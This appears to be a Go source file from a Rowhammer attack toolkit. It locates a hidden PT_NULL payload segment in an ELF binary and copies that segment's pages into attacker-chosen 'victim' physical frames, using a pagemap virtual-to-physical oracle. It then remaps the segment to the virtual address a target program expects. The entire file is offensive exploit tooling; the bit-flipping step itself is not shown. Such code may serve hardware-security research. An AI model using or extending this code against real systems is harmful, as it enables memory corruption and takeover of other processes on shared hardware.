// Package elfseg implements binary page placement: locating
// the loader binary's hidden PT_NULL payload segment, mapping each of its
// pages at the physical frames the attack declares as victims, and finally
// remapping the whole segment into a contiguous virtual range at the
// address the target program expects it.
//
// ELF parsing uses the standard library's debug/elf package, which needs
// nothing from the wider ecosystem for this job.
package elfseg

import (
	"debug/elf"
	"fmt"
	"os"

	"github.com/sirupsen/logrus"

	"rowhammer/internal/config"
	"rowhammer/internal/frame"
	"rowhammer/internal/memtypes"
	"rowhammer/internal/pagemap"
	"rowhammer/internal/sysmem"
)

// segmentPageCount returns the number of whole pages needed to hold filesz
// bytes, i.e. ceil(filesz/PageSize). Computing this as (filesz>>12)+1
// allocates one page too many whenever filesz is already page-aligned;
// this rounds up properly instead.
func segmentPageCount(filesz uint64) int {
	return int((filesz + memtypes.PageSize - 1) / memtypes.PageSize)
}

// LocatePayloadSegment finds the hidden payload segment: the PT_NULL
// program header with a non-zero file size that the build step embeds the
// victim page contents into.
func LocatePayloadSegment(f *elf.File) (*elf.Prog, error) {
	for _, p := range f.Progs {
		if p.Type == elf.PT_NULL && p.Filesz > 0 {
			return p, nil
		}
	}
	return nil, fmt.Errorf("elfseg: no PT_NULL payload segment found")
}

// mappedPage is one page of the payload segment, still mapped at its
// original, kernel-chosen virtual address.
type mappedPage struct {
	va          uintptr
	fileOffset  uint64
	phys        memtypes.PhysAddr
}

// mapSegmentPages file-maps every page of seg from elfPath read+execute
// and forces each resident, returning them in segment order.
func mapSegmentPages(elfPath string, seg *elf.Prog) ([]mappedPage, error) {
	f, err := os.Open(elfPath)
	if err != nil {
		return nil, fmt.Errorf("elfseg: opening %s: %w", elfPath, err)
	}
	defer f.Close()

	n := segmentPageCount(seg.Filesz)
	pages := make([]mappedPage, 0, n)
	for i := 0; i < n; i++ {
		off := int64(seg.Off) + int64(i)*memtypes.PageSize
		va, err := sysmem.MapFilePage(f, off, unix_PROT_RX)
		if err != nil {
			return nil, fmt.Errorf("elfseg: mapping payload page %d/%d: %w", i+1, n, err)
		}
		// Force residency before translating, matching the pagemap oracle's
		// precondition that the page already be faulted in.
		_ = *(*byte)(ptr(va))

		phys := pagemap.VirtToPhys(va)
		pages = append(pages, mappedPage{va: va, fileOffset: uint64(off), phys: phys})
		logrus.Debugf("elfseg: mapped payload page %d at va %#x -> %s", i, va, phys)
	}
	return pages, nil
}

// Place runs the full binary page placement pipeline: map the payload
// segment's pages, copy each one into the physical frame its attack_config
// entry names as a victim, then remap the whole segment into the
// contiguous virtual range the target program expects at
// cfg.SegmentVirtAddr.
//
// victims must already hold every frame named by cfg.VictimFrames (see
// internal/frame.Allocate); Place neither allocates nor releases frames.
func Place(elfPath string, cfg *config.AttackConfig, victims *frame.Map) error {
	f, err := elf.Open(elfPath)
	if err != nil {
		return fmt.Errorf("elfseg: opening ELF %s: %w", elfPath, err)
	}
	seg, err := LocatePayloadSegment(f)
	if err != nil {
		f.Close()
		return err
	}
	f.Close()

	pages, err := mapSegmentPages(elfPath, seg)
	if err != nil {
		return err
	}

	offsetToVictim := make(map[uint64]memtypes.FrameAddr, len(cfg.VictimFrames))
	for _, vf := range cfg.VictimFrames {
		if vf.PageFileOffset == nil {
			continue
		}
		offsetToVictim[*vf.PageFileOffset&^uint64(memtypes.PageOffsetMask)] = vf.FrameAddr
	}

	for i := range pages {
		pg := pages[i]
		target, ok := offsetToVictim[pg.fileOffset]
		if !ok {
			continue
		}
		owned, ok := victims.Remove(target)
		if !ok {
			return fmt.Errorf("elfseg: victim frame %s (file offset %#x) was not acquired", target, pg.fileOffset)
		}
		src := unsafeSlice(pg.va, memtypes.PageSize)
		copy(owned.Data(), src)

		after := pagemap.VirtToPhys(owned.VA).Frame()
		if after != target {
			panic(fmt.Sprintf("elfseg: victim frame %s moved to %s mid-copy", target, after))
		}

		// The source file mapping has served its purpose; drop it and
		// track the victim's own mapping for the remap below, so the
		// segment ends up backed by the frame the attack actually chose.
		if err := sysmem.UnmapPage(pg.va); err != nil {
			return fmt.Errorf("elfseg: unmapping source page (offset %#x): %w", pg.fileOffset, err)
		}
		pages[i].va = owned.VA
		pages[i].phys = target
		logrus.Infof("elfseg: placed payload page (offset %#x) into victim frame %s", pg.fileOffset, target)
	}

	return remapSegment(pages, seg, uintptr(cfg.SegmentVirtAddr))
}

// remapSegment moves every page in pages to a contiguous run of virtual
// addresses starting at base, in segment order. Any existing mapping
// already occupying a destination address is relocated to a throwaway
// anonymous page first, so the move never clobbers live process state.
func remapSegment(pages []mappedPage, seg *elf.Prog, base uintptr) error {
	for i, pg := range pages {
		dst := base + uintptr(i)*memtypes.PageSize

		if err := vacate(dst); err != nil {
			return fmt.Errorf("elfseg: vacating destination %#x: %w", dst, err)
		}

		beforePhys := pg.phys.Frame()
		if err := sysmem.Mremap(pg.va, dst); err != nil {
			return fmt.Errorf("elfseg: remapping payload page %d to %#x: %w", i, dst, err)
		}
		afterPhys := pagemap.VirtToPhys(dst).Frame()
		if afterPhys != beforePhys {
			panic(fmt.Sprintf("elfseg: payload page %d changed physical frame across remap: %s -> %s", i, beforePhys, afterPhys))
		}
		logrus.Debugf("elfseg: remapped payload page %d to %#x (frame %s preserved)", i, dst, afterPhys)
	}
	return nil
}

// vacate ensures va is unmapped, relocating (not discarding) whatever was
// there by mremap-ing it to a fresh anonymous scratch address first. If va
// is already unmapped this is a no-op.
func vacate(va uintptr) error {
	if !isMapped(va) {
		return nil
	}
	scratch, err := sysmem.MapAnonPage(unix_PROT_NONE)
	if err != nil {
		return fmt.Errorf("elfseg: allocating scratch page: %w", err)
	}
	if err := sysmem.UnmapPage(scratch); err != nil {
		return fmt.Errorf("elfseg: freeing scratch page: %w", err)
	}
	return sysmem.Mremap(va, scratch)
}
